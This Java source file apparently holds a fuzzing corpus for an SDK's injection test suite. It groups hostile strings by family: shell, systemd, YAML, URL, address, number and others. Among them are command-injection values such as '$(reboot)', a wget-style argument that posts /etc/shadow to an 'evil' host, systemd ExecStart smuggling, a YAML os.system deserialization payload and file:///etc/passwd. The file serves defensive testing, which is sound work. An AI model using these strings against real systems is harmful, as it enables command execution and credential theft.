package io.corekube.fuzz;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

/**
 * The injection suite's corpus: strings built to break out of a shell line, a systemd unit, a YAML or JSON
 * document, a URL or a flannel config. Each is either refused by the SDK with a typed error naming the field,
 * or must come back unchanged from the real parser of the artifact it was rendered into.
 */
public final class HostileStrings {

    private HostileStrings() {
    }

    /** Every hostile string, each with its family name in {@link Case#family()}. */
    public static List<Case> all() {
        List<Case> out = new ArrayList<>();
        family(out, "shell", "x;reboot", "x&&reboot", "x||reboot", "x|sh", "$(reboot)", "`reboot`", "${IFS}reboot",
                "x&/usr/bin/reboot&#", "x>/etc/passwd", "x</etc/shadow", "x\\;reboot", "!!", "x #comment", "a b",
                "--post-file=/etc/shadow", "-o/etc/passwd", "*", "~root", "x$IFS$9reboot", "(reboot)", "{a,b}",
                "http://x&/usr/bin/reboot&#", "https://h/f --post-file=/etc/shadow http://evil/",
                "http://h/$(id)", "http://h/`id`", "http://h/a;b", "http://h/a|b", "http://h/a b");
        family(out, "line", "a\nExecStart=/bin/evil", "a\rb", "a\r\nb", "\n", "a\n[Service]\nExecStart=/x",
                "x\\\nExecStart=/bin/evil", "a\u000bb", "a\u000cb", "a\u0085b", "a\u2028b", "a\u2029b",
                "a\n- evil", "a\nkey: value");
        family(out, "control", "a\u0000b", "\u0000", "a\u0001b", "a\u001bb", "a\u007fb", "a\tb", "\u001b[31mred",
                "a\u0008b", "a\ufeffb", "a\ud800b");
        family(out, "yaml", "null", "~", "true", "yes", "on", "off", "no", "y", "N", "0x1F", "0o17", "017", "1e3",
                "12:30:00", "2001-12-14", ".inf", "-.Inf", ".NaN", "- item", "? key", "key: value", "a: b", "#x",
                "&anchor", "*alias", "!tag", "!!python/object/apply:os.system ['id']", "|", ">", "{a: 1}", "[1, 2]",
                "'quoted'", "\"quoted\"", "%YAML 1.2", "@at", "`tick`", "--- ", "...", "<<", "=", " leading",
                "trailing ", ",", "{{", "}}", "{{x|word}}");
        family(out, "systemd", "%n", "%i", "%h", "%%", "%", "a%b", "%{x}", "${PATH}", "$HOME", "$$", "\\x41",
                "\\", "a\\", "[Unit]", "[X-Fleet]", "MachineID=1", "; comment", "#", "a=b=c", "-/bin/true",
                "@/bin/sh", "+/bin/sh", "!/bin/sh", ":/bin/sh");
        family(out, "quote", "'", "\"", "a'b", "a\"b", "'; reboot; '", "\"; reboot; \"", "\\'", "\\\"",
                "}\"", "\",\"x\":\"y", "{\"Network\":\"0.0.0.0/0\"}");
        family(out, "url", "ftp://host/x", "file:///etc/passwd", "javascript:alert(1)", "http://user:pw@host/x",
                "http://host:99999/x", "http://", "http:///x", "http://host/%0a", "http://host/%ZZ", "HTTP://HOST/",
                "http://[::1/x", "//host/x", "http://host/x#frag", "http://host/x?a=1&b=2", "http://h\u0430st/x",
                "http://host/../../etc/passwd", "http://10.0.0.1\\@evil/x");
        family(out, "address", "256.0.0.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "1.2.3.4/33", "1.2.3.4/-1",
                "\u0661.2.3.4", "\uff11.2.3.4", "1.2.3.4 ", " 1.2.3.4", "::1", "fe80::1%eth0", "0x7f.0.0.1",
                "1.2.3.4/24/1", "10.0.0.0/9999999999999999999", "-1.2.3.4");
        family(out, "number", "-1", "0", "9223372036854775808", "18446744073709551616", "1e9", "NaN",
                "\u0661\u0662", "0x10", "+5", "1_000", "");
        // valid, yet full of characters that mean something to some format: they must come back unchanged
        family(out, "edge", "https://h.example/a%25n%20b%0a", "http://[fd00::1]:8080/x~y", "https://h/a+b,c=d:e@f",
                "http://127.0.0.1:1/%%", "10.0.0.1", "255.255.255.255", "0.0.0.0/0", "10.244.0.0/16", "AbCdEf0123456789",
                "a".repeat(64), "Kube.Local", "x-y.z", "$private_ipv4:4001", "v1", "0644", "restart",
                "/etc/kubernetes/pki/ca.crt", "emoji \ud83d\ude00 text", "na\u00efve caf\u00e9", "\u540d\u524d");
        family(out, "overlong", "a".repeat(256), "a".repeat(4096), "x".repeat(70_000), ("a" + ".".repeat(300)),
                "a.".repeat(200) + "com", "*a".repeat(14) + "*b");
        return Collections.unmodifiableList(out);
    }

    /** The strings alone. */
    public static List<String> strings() {
        return all().stream().map(Case::value).toList();
    }

    private static void family(List<Case> out, String family, String... values) {
        for (String v : values) {
            out.add(new Case(family, v));
        }
    }

    /** A hostile string and the family it belongs to. */
    public record Case(String family, String value) {
        @Override
        public String toString() {
            return family + ": " + visible(value);
        }

        private static String visible(String s) {
            StringBuilder out = new StringBuilder();
            s.codePoints().limit(60).forEach(c -> {
                if (c < 0x20 || c == 0x7F || c >= 0x80 && c < 0xA0 || c == 0x2028 || c == 0x2029 || c == 0xFEFF) {
                    out.append(String.format("\\u%04x", c));
                } else {
                    out.appendCodePoint(c);
                }
            });
            return s.length() > 60 ? out + "...(" + s.length() + " chars)" : out.toString();
        }
    }
}
